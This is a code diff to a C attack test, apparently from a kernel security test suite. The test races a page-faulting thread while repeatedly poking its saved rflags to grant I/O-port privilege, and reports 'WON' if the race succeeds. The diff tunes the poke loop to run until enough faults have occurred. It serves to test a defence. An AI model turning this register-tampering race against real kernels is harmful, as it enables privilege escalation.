@@ -12,9 +12,11 @@ ATTACK("shadow_stack", "leave_race", "LOST",
 
 #define FAULTS (256l << 12)
 #define POKES 2000000
+#define FAULTS_SEEN 300000 /* in which the attacker has poked, too */
 
 static volatile uint32_t reader_id;
 static volatile bool has_ports;
+static volatile uint32_t faults;
 
 static bool control(void)
 {
@@ -33,6 +35,7 @@ static void fault_and_see(void)
 		for (long offset = 0; offset < FAULTS && !has_ports; offset += 4096) {
 			*(volatile char *)(area + offset) = 1;
 			has_ports = (flags_now() & PORTS) == PORTS;
+			faults++;
 		}
 		if (has_ports)
 			say_result("WON");
@@ -47,11 +50,10 @@ static bool fire(void)
 
 	(void)own_cpu(0);
 	start_thread(fault_and_see);
-	while (!reader_id)
-		sleep_milliseconds(10);
+	await(reader_id != 0);
 	flags = own_registers(thread_task(task, reader_id)) + member("arch_frame.rflags");
 	value = peek(flags) | FLAG_INTERRUPT | PORTS;
-	for (unsigned int i = 0; i < POKES && !has_ports; i++)
+	for (unsigned int i = 0; (i < POKES || faults < FAULTS_SEEN) && !has_ports; i++)
 		poke(flags, value);
 	return false;
 }
